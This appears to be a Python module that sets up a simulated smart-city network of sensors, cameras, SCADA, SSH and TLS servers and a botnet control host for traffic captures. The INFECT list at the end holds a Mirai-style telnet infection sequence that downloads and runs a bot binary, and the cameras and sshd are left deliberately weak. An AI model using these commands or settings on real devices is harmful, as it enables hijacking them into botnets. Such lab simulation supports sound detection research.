# SPDX-License-Identifier: Apache-2.0
"""Services and devices of the site: each function starts real programs on one host."""
import os
import shutil
import subprocess
import sys
import time

from city import DNS, HERE, HOSTS, NTP, address, build_c, sh

ZONE = "iot.cantho.example"
ACCOUNTS = {"level-cai-rang": "Song-Hau-8", "level-binh-thuy": "Song-Hau-9", "dashboard": "Ben-Ninh-Kieu-1"}
CAMERA_ACCOUNT = "admin:12345"


def python(name, *args):
    return ("/usr/bin/python3", HERE / f"{name}.py", *args)


def dns(site):
    """The city's resolver; names outside go to a public resolver when the site has one."""
    lines = ["no-hosts", "no-resolv", "user=root", "port=53", "log-facility=-", "pid-file=", "local-ttl=300"]
    lines += [f"address=/{h}.{ZONE}/{address(h)}" for h in HOSTS if HOSTS[h][0] in ("dc", "ot")]
    if "resolver" in site.hosts:
        lines.append(f"server={address('resolver')}")
        public(site)
    site.spawn("dns01", "dnsmasq", "-k", "-C", site.file("dns.conf", "\n".join(lines) + "\n"))


def public(site):
    lines = ["no-hosts", "no-resolv", "user=root", "port=53", "log-facility=-", "pid-file=", "local-ttl=60",
             "address=/update.camera-vendor.example/198.51.100.80",
             "address=/cnc.tramgacbot.example/198.51.100.23",
             "address=/t.sync-cdn.example/198.51.100.23",
             "address=/www.example/198.51.100.80"]
    site.spawn("resolver", "dnsmasq", "-k", "-C", site.file("public.conf", "\n".join(lines) + "\n"))


def ntp(site):
    conf = site.file("chrony.conf", f"local stratum 3\nallow all\ncmdport 0\npidfile {site.tmp}/chronyd.pid\n")
    site.spawn("ntp01", "chronyd", "-x", "-d", "-u", "root", "-f", conf)


def ask_time(site, *hosts):
    for h in hosts:
        site.spawn(h, "chronyd", "-Q", "-t", "4", "-u", "root", f"server {NTP} iburst maxsamples 1", "cmdport 0",
                   f"pidfile {site.tmp}/ntp-{h}.pid")


def broker(site):
    passwords = site.file("mqtt.passwords", "", 0o600)
    for user, password in ACCOUNTS.items():
        sh("mosquitto_passwd", "-b", passwords, user, password)
    conf = site.file("mosquitto.conf", "listener 1883 0.0.0.0\nallow_anonymous false\nuser root\n"
                     f"password_file {passwords}\nsys_interval 10\n")
    site.spawn("mqtt01", "mosquitto", "-c", conf)


def level_sensor(site, host, seconds):
    """One long MQTT session; a level every `seconds`, battery state every tenth time."""
    place = host.removeprefix("level-")
    script = (f"n=0; while :; do n=$((n+1)); echo \"{{\\\"id\\\":\\\"{host}\\\",\\\"n\\\":$n,\\\"level_mm\\\":$((1200+n%7)),\\\"rain\\\":0}}\";"
              f" sleep $(echo \"{seconds} * $(cat pace)\" | bc); done | mosquitto_pub -h mqtt01.{ZONE} -i {host} -u {host}"
              f" -P {ACCOUNTS[host]} -t sensors/{place}/level -q 1 -k 60 -l")
    site.spawn(host, "sh", "-c", script)


def web(site, host, locations, listen="80", extra=""):
    """nginx with its own configuration, log-free."""
    tmp = site.tmp / f"web-{host}"
    (tmp / "root").mkdir(parents=True, exist_ok=True)
    tmp.chmod(0o755)
    dirs = "".join(f"{d}_temp_path {tmp}/{d};" for d in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi"))
    conf = site.file(f"web-{host}.conf",
                     f"daemon off; user root; worker_processes 1; pid {tmp}/pid; error_log /dev/null;\n"
                     "events { worker_connections 256; }\n"
                     f"http {{ {dirs} access_log off; server_tokens off; default_type text/html;\n"
                     f" server {{ listen {listen}; {extra} root {tmp}/root; {locations} }} }}\n")
    site.spawn(host, "nginx", "-c", conf, "-e", "/dev/null")
    return tmp / "root"


DEVICE_INFO = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<DeviceInfo><deviceName>{host}</deviceName>"
               "<model>DS-2CD2143G2</model><firmwareVersion>V5.7.3</firmwareVersion></DeviceInfo>\n")
ONVIF_ANSWER = ("<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\"><s:Body>"
                "<GetSystemDateAndTimeResponse/></s:Body></s:Envelope>\n")
ONVIF_ASK = ("<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\"><s:Body>"
             "<GetSystemDateAndTime xmlns=\"http://www.onvif.org/ver10/device/wsdl\"/></s:Body></s:Envelope>")


def camera(site, host, telnet=False):
    """nginx with basic authentication, ONVIF and device information; RTSP; optionally telnet."""
    user, password = CAMERA_ACCOUNT.split(":")
    digest = subprocess.run(["openssl", "passwd", "-apr1", password], capture_output=True, text=True, check=True)
    passwords = site.file("camera.htpasswd", f"{user}:{digest.stdout}")
    protected = f'auth_basic "IP Camera"; auth_basic_user_file {passwords};'
    root = web(site, host, f"location / {{ {protected} }} location = /onvif/device_service {{ error_page 405 =200 /onvif.xml; }}"
               " location = /onvif.xml { default_type application/soap+xml; }")
    (root / "index.html").write_text("<html><title>IP Camera</title><body>Login</body></html>\n")
    (root / "onvif.xml").write_text(ONVIF_ANSWER)
    (root / "ISAPI").mkdir()
    (root / "ISAPI" / "deviceInfo").write_text(DEVICE_INFO.format(host=host))
    site.spawn(host, *python("rtsp", "serve"))
    if telnet:
        telnet_camera(site, host)


def telnet_camera(site, host):
    # telnetd asks for its client's name; a camera's does not: let it ask nobody
    site.resolver_file(host, "127.0.0.1")
    root = site.tmp / f"root-{host}"
    for d in ("bin", "lib64", "tmp", "proc", "dev", "etc"):
        (root / d).mkdir(parents=True, exist_ok=True)
    shutil.copy("/bin/busybox", root / "bin/busybox")
    libs = subprocess.run(["ldd", "/bin/busybox"], capture_output=True, text=True, check=False).stdout
    for word in libs.split():
        if word.startswith("/"):
            target = root / word.lstrip("/")
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(os.path.realpath(word), target)
    for name in ("sh", "cat", "ls", "wget", "chmod", "rm", "ps", "uname", "cp"):
        if not (root / "bin" / name).exists():
            (root / "bin" / name).symlink_to("busybox")
    (root / "proc/mounts").write_text("rootfs / rootfs rw 0 0\ntmpfs /tmp tmpfs rw 0 0\n")
    (root / "etc/resolv.conf").write_text(f"nameserver {DNS}\n")
    login = f"/usr/bin/python3 {HERE}/telnet_login.py {root} {CAMERA_ACCOUNT}"
    site.spawn(host, *python("superserver", 23, "/usr/sbin/telnetd", "-h", f"--exec-login={login}"))


def recorder(site, *cameras, seconds=2):
    """The recorder keeps one RTSP stream of each camera open and asks ONVIF for its time now and then."""
    ask = site.file("onvif-ask.xml", ONVIF_ASK)
    for c in cameras:
        a = address(c)
        site.spawn("nvr01", *python("rtsp", "play", a, "CityVMS/7.1", 100000))
        site.spawn("nvr01", "sh", "-c",
                   f"while :; do curl -s -o /dev/null -A CityVMS/7.1 -H 'Content-Type: application/soap+xml' --data-binary @{ask} "
                   f"http://{a}/onvif/device_service; sleep $(echo \"{seconds} * $(cat pace)\" | bc); done")


def rtu(site, *hosts):
    program = build_c(site, "rtu")
    for h in hosts:
        site.spawn(h, program, address(h))


def master(site, interval_ms, cycles, write_every, *rtus):
    program = build_c(site, "master")
    return site.spawn("scada01", program, interval_ms, cycles, write_every, *(address(r) for r in rtus))


def c2(site):
    """The botnet's side on the internet: a web server with the sample, and the control channel."""
    root = web(site, "c2", "location / { default_type application/octet-stream; }")
    (root / "bins").mkdir()
    for arch in ("arm", "mips"):
        sh("/usr/bin/python3", HERE / "sample.py", root / "bins" / f"tramgacbot.{arch}", arch)
    site.spawn("c2", *python("c2", "serve", 48101))


def certificate(site, name):
    """A self-signed certificate of the year 2026, so that its dates hold for the captures."""
    base = site.tmp / f"ca-{name}"
    base.mkdir()
    (base / "index").write_text("")
    (base / "serial").write_text("1A2B\n")
    conf = site.file(f"ca-{name}/conf", f"[ca]\ndefault_ca=c\n[c]\ndatabase={base}/index\nserial={base}/serial\n"
                     f"new_certs_dir={base}\ndefault_md=sha256\npolicy=p\n[p]\ncommonName=supplied\norganizationName=optional\n"
                     "[req]\ndistinguished_name=d\n[d]\n")
    key, request, cert = base / "key", base / "request", base / "cert"
    sh("openssl", "req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", request, "-config", conf,
       "-subj", f"/O=Example/CN={name}", stderr=subprocess.DEVNULL)
    sh("openssl", "ca", "-batch", "-selfsign", "-config", conf, "-keyfile", key, "-in", request, "-out", cert, "-notext",
       "-startdate", "20260101000000Z", "-enddate", "20351231235959Z", stderr=subprocess.DEVNULL)
    return key, cert


def tls_server(site, host, name, port=443):
    """openssl s_server with TLS 1.2, so that the certificate can be seen."""
    key, cert = certificate(site, name)
    site.spawn(host, "openssl", "s_server", "-accept", port, "-key", key, "-cert", cert, "-www", "-tls1_2")


def ssh_server(site, host, key=False):
    """OpenSSH's sshd; with `key`, root may enter by the key that ssh_login uses."""
    for name in ("host", "user"):
        sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", site.tmp / f"ssh-{name}")
    if key:
        shutil.copy(site.tmp / "ssh-user.pub", site.tmp / "ssh-authorized")
    conf = site.file("sshd.conf", f"HostKey {site.tmp}/ssh-host\nPidFile none\nUsePAM no\nPermitRootLogin yes\nStrictModes no\n"
                     f"AuthorizedKeysFile {site.tmp}/ssh-authorized\nPasswordAuthentication yes\nDebianBanner no\n"
                     "MaxStartups 100\nLogLevel QUIET\nUseDNS no\n")
    os.makedirs("/run/sshd", exist_ok=True)
    site.spawn(host, "/usr/sbin/sshd", "-D", "-f", conf)


def ssh_login(site, host, server):
    site.run(host, "ssh", "-i", site.tmp / "ssh-user", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
             "-o", "BatchMode=yes",
             "-o", "KexAlgorithms=curve25519-sha256", f"root@{address(server)}", "true")


def publish(site, host, folder, name):
    """An ELF file without code on the host's web server."""
    target = site.tmp / f"web-{host}" / "root" / folder
    target.mkdir()
    sh("/usr/bin/python3", HERE / "sample.py", target / name, "mips", "plain")


INFECT = [
    "enable", "system", "shell", "sh",
    "/bin/busybox TRAMGACBOT",
    "cat /proc/mounts; /bin/busybox TRAMGACBOT",
    "cd /tmp || cd /var/run; wget http://198.51.100.23/bins/tramgacbot.arm -O - > dvrHelper; chmod 777 dvrHelper; ./dvrHelper telnet.arm",
    "rm -f dvrHelper; /bin/busybox TRAMGACBOT",
]


def wait(seconds):
    time.sleep(seconds)
    sys.stdout.flush()
